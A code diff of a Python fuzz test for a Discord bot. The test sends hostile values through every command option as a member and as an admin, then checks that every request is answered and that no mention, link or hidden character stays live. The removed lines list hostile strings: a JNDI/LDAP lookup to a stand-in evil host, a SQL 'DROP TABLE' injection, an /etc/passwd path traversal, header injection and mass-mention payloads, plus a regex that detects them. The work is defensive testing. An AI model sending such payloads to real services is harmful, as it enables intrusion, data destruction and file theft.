@@ -1,44 +1,57 @@
-"""Every option of every command with everything people can type at its worst, through the real bot."""
+"""Every option of every command with everything people can put in at its worst, through the real bot.
+
+What members may use is tried as a member, what admins and the operator may use as the admin of the operator's server;
+afterwards the lists, windows and details that show what was put in are opened, and every message is read.
+"""
 
 import asyncio
-import re
+from dataclasses import dataclass
 from typing import Any
 
-from bot.sandbox.discord import Interaction, State
+from bot.sandbox.discord import Interaction, State, User
 from bot.sandbox.stage import Stage
-from tests.e2e.conftest import open_stage, rows, run, text_of
+from tests.attack.hostile_values import ATTACHMENT, BOOLEAN, INTEGER, TEXT, Json, hostile, live_parts, shown_texts
+from tests.e2e.conftest import open_stage, rows, run, until
 
-NASTY = (
-    "\x00\x01\x02\x1b[31m\x7f\x85", "\u202eevil\u2066\u2069", "\u200b\u200d\ufeff\u2060", "e" + "\u0301" * 400,
-    "\ud800", "\U0010ffff\ue000\ufffe", "@everyone @here <@1> <@&1> <#1>", "[a](https://evil.example) discord.gg/abc",
-    "```\n```||~~**__>>> # -# 1. ", "{0} %s ${jndi:ldap://evil.example/} {{7*7}} <script>",
-    "' OR 1=1; DROP TABLE jobs;--",
-    "../../../../etc/passwd", "\r\nX-Injected: yes", "٣٤٥²Ⅷ", "NaN", "1e999", "-0", "z" * 6000,
-    "字" * 6000, "😀" * 6000,
-)  # fmt: skip
-NUMBERS: tuple[Any, ...] = (-1, 0, 10**18, -(10**18), 2**53)
-TEXT, INTEGER, BOOLEAN = 3, 4, 5
-# What would still act in a message: mentions, links, invites, and characters that turn or hide text.
-LIVE = re.compile(
-    r"@everyone|@here|(?<!\\)<(?:@&?|#)1>|(?<!\\)\]\(https?://evil|https://evil|discord\.gg/abc|[\u202e\u2066]"
-)
 ANSWERED = (State.DEFERRED, State.ANSWERED)
-REQUIRED = {"music": {"prompt": "rain"}, "sfx": {"prompt": "creak"}, "video": {"prompt": "boat"}, "tts": {"text": "hi"}}
+# So that a command is carried out for every bad value of another option.
+PLAIN: dict[str, Json] = {
+    "music": {"prompt": "rain"}, "sfx": {"prompt": "creak"}, "video": {"prompt": "boat"}, "tts": {"text": "hi"},
+}  # fmt: skip
+# An admin's wrong number, and these, end what the attack needs: they come last, once, with a good value.
+ENDING = ("operator pause", "operator drain", "operator leave", "foley pause")
 
 
-def commands(stage: Stage) -> list[dict[str, Any]]:
+@dataclass(frozen=True)
+class Attack:
+    """One interaction as a client of somebody's own making would send it."""
+
+    user: User
+    command: Json
+    options: list[Json]
+    resolved: Json
+    kind: int = 2
+    # Values no client sends, of which discord.py itself refuses some without a word.
+    must_answer: bool = True
+
+
+def commands(stage: Stage) -> list[Json]:
     return [one for table in stage.discord.platform.registry.by_scope.values() for one in table.values()]
 
 
-def send(stage: Stage, command: dict[str, Any], options: list[dict[str, Any]], kind: int = 2) -> Interaction:
-    """Send a command as a client of somebody's own making would: nothing is checked on the way."""
-    data = {"id": command["id"], "name": command["name"], "type": 1, "options": options}
-    world = stage.world
-    owners = {"0": str(world.guild.id)}
-    return stage.discord.platform.interactions.send(kind, world.member, world.general, data, owners=owners)
+def send(stage: Stage, attack: Attack) -> Interaction:
+    """Send it: nothing is checked on the way."""
+    command = attack.command
+    data = {"id": command["id"], "name": command["name"], "type": 1, "options": attack.options}
+    if command.get("guild_id"):
+        data["guild_id"] = command["guild_id"]
+    if attack.resolved:
+        data["resolved"] = attack.resolved
+    owners = {"0": str(stage.world.guild.id)}
+    return stage.discord.platform.interactions.send(attack.kind, attack.user, stage.world.general, data, owners=owners)
 
 
-def leaves(command: dict[str, Any]) -> list[tuple[list[str], list[dict[str, Any]]]]:
+def leaves(command: Json) -> list[tuple[list[str], list[Json]]]:
     """Every command or subcommand: the way to it, and its options."""
     inner = [one for one in command.get("options", ()) if one["type"] in (1, 2)]
     if not inner:
@@ -46,59 +59,99 @@ def leaves(command: dict[str, Any]) -> list[tuple[list[str], list[dict[str, Any]
     return [([one["name"], *way], options) for one in inner for way, options in leaves(one)]
 
 
-def nested(way: list[str], filled: list[dict[str, Any]]) -> list[dict[str, Any]]:
+def nested(way: list[str], filled: list[Json]) -> list[Json]:
     for depth, name in enumerate(reversed(way)):
         filled = [{"name": name, "type": 1 if depth == 0 else 2, "options": filled}]
     return filled
 
 
-def attacks(stage: Stage) -> list[tuple[dict[str, Any], list[dict[str, Any]], int]]:
+def plain_value(option: Json, command: str) -> Any:
+    """Return a good value for a required option."""
+    if option["name"] in PLAIN.get(command, {}):
+        return PLAIN[command][option["name"]]
+    if option.get("choices"):
+        return option["choices"][0]["value"]
+    return {TEXT: "plain", INTEGER: max(1, int(option.get("min_value") or 1)), BOOLEAN: True}.get(option["type"])
+
+
+def attacks(stage: Stage) -> list[Attack]:
     """Every option of every command with every bad value, the others filled in plainly; also as suggestions."""
     made = []
     for command in commands(stage):
+        user = stage.world.admin if command["name"] in ("foley", "operator") else stage.world.member
         for way, options in leaves(command):
-            plain = [{"name": name, "type": TEXT, "value": value}
-                     for name, value in REQUIRED.get(command["name"], {}).items()]  # fmt: skip
-            for option in [one for one in options if one["type"] in (TEXT, INTEGER, BOOLEAN)]:
-                values: tuple[Any, ...] = NASTY if option["type"] == TEXT else NUMBERS
-                for value in values:
+            if " ".join((command["name"], *way)) in ENDING:
+                continue
+            plain = [
+                {"name": one["name"], "type": one["type"], "value": value}
+                for one in options
+                if one.get("required") and (value := plain_value(one, command["name"])) is not None
+            ]
+            for option in options:
+                for value, resolved in hostile(stage, option):
                     bad = {"name": option["name"], "type": option["type"], "value": value}
                     others = [one for one in plain if one["name"] != option["name"]]
-                    made.append((command, nested(way, [*others, bad]), 2))
+                    sure = option["type"] == TEXT or bool(resolved)
+                    made.append(Attack(user, command, nested(way, [*others, bad]), resolved, must_answer=sure))
                     if option.get("autocomplete"):
-                        made.append((command, nested(way, [*others, {**bad, "focused": True}]), 4))
+                        asked = nested(way, [*others, {**bad, "focused": True}])
+                        made.append(Attack(user, command, asked, {}, kind=4, must_answer=sure))
     return made
 
 
-async def test_every_option_of_every_command_with_every_bad_value_is_answered() -> None:
-    async with open_stage() as stage:
+async def attack_all(stage: Stage, tried: list[Attack]) -> None:
+    silent = []
+    for start in range(0, len(tried), 20):
+        sent = [(one, send(stage, one)) for one in tried[start : start + 20]]
+        await asyncio.gather(*(interaction.wait_first_answer() for one, interaction in sent if one.must_answer))
+        silent += [one for one, interaction in sent if one.must_answer and interaction.state not in ANSWERED]
+    for one in silent:  # a busy machine may have been late: alone it must be answered
+        assert (await send(stage, one).wait_first_answer()).state in ANSWERED, (one.command["name"], one.options)
+
+
+async def look_at_everything(stage: Stage) -> None:
+    """Open the lists, pages, windows and details in which people see what was put in."""
+    world = stage.world
+    for line in ("show", "audit", "jobs", "usage", "limits list", "setup"):
+        assert (await run(stage, f"/foley {line}", user=world.admin)).state in ANSWERED
+    assert (await run(stage, "/operator status", user=world.admin)).state in ANSWERED
+    for row in rows(stage)[:40]:
+        assert (await run(stage, f"/jobs show id:{row['id']}")).state in ANSWERED
+    results = [one for one in stage.discord.messages(world.general) if one.payload.get("message_reference")]
+    for message in results[:40]:
+        labels = [one.get("label") for row in message.components for one in row["components"]]
+        for label in [one for one in ("Details", "Edit and run") if one in labels]:
+            pressed = await stage.discord.press(world.member, message, label)
+            assert (await pressed.wait_first_answer()).state in ANSWERED
+            if pressed.modal is not None:
+                names = [str(pressed.modal["title"]), *(one.get("label", "") for one in pressed.modal["components"])]
+                assert not any("evil" in name or "@" in name for name in names)
+
+
+async def test_every_option_of_every_command_with_every_bad_value_is_answered_and_nothing_acts() -> None:
+    async with open_stage(start=False) as stage:
+        stage.bot.environment["FOLEY_OWNER_GUILD_ID"] = str(stage.world.guild.id)
+        await stage.start_bot()
+        await stage.wait_for_commands()
+        names = {command["name"] for command in commands(stage)}
+        assert {"foley", "operator", "music", "sfx", "tts", "video", "jobs", "privacy"} <= names
         tried = attacks(stage)
-        assert len(tried) > 500
-        # Values no client sends and discord.py itself can't read are left without an answer; all text must have one.
-        silent = []
-        for start in range(0, len(tried), 20):
-            sent = [(one, send(stage, *one)) for one in tried[start : start + 20] if is_text(one[1])]
-            for one in tried[start : start + 20]:
-                if not is_text(one[1]):
-                    send(stage, *one)
-            await asyncio.gather(*(interaction.wait_first_answer() for _, interaction in sent))
-            silent += [one for one, interaction in sent if interaction.state not in ANSWERED]
-        for one in silent:  # a busy machine may have been late: alone it must be answered
-            assert (await send(stage, *one).wait_first_answer()).state in ANSWERED, one[1]
+        used = {option["type"] for command in commands(stage) for _, options in leaves(command) for option in options}
+        assert used <= {TEXT, INTEGER, BOOLEAN, 6, 7, 8, ATTACHMENT}
+        assert len(tried) > 1300
+        # Members first: what an admin sets by a bad value that is a good one may close the door to them.
+        await attack_all(stage, [one for one in tried if one.user is stage.world.member])
+        assert rows(stage), "some of these are good requests"
+        await until(lambda: all(row["notice"] in ("sent", "held") for row in rows(stage)) or None)
+        await attack_all(stage, [one for one in tried if one.user is stage.world.admin])
+        await look_at_everything(stage)
         assert (await run(stage, "/jobs list")).state in ANSWERED
         assert stage.bot.starts == 1
         log = "\n".join(stage.bot.log)
         assert "unexpected error" not in log, [line for line in stage.bot.log if "rror" in line][:3]
-        assert "jndi" not in log
-        assert "zzzzzzzz" not in log
-        assert rows(stage), "some of these are good requests"
-        for message in stage.discord.platform.messages.by_id.values():
-            live = LIVE.findall(text_of(message))
-            assert live == [], text_of(message)
-            assert set(message.pinged) <= {stage.world.member.id}
-        print(f"{len(tried)} hostile interactions tried")
-
-
-def is_text(options: list[dict[str, Any]]) -> bool:
-    last = options[-1]
-    return is_text(last["options"]) if last.get("options") else last.get("type") == TEXT
+        assert not any(word in log for word in ("jndi", "zzzzzzzz", "evil"))
+        messages = list(stage.discord.platform.messages.by_id.values())
+        live = [(parts, list(shown_texts(one.payload))) for one in messages if (parts := live_parts(one))]
+        assert not live, live[:2]
+        assert {user for one in messages for user in one.pinged} <= {stage.world.member.id}
+        print(f"{len(tried)} hostile interactions tried, {len(messages)} messages read")
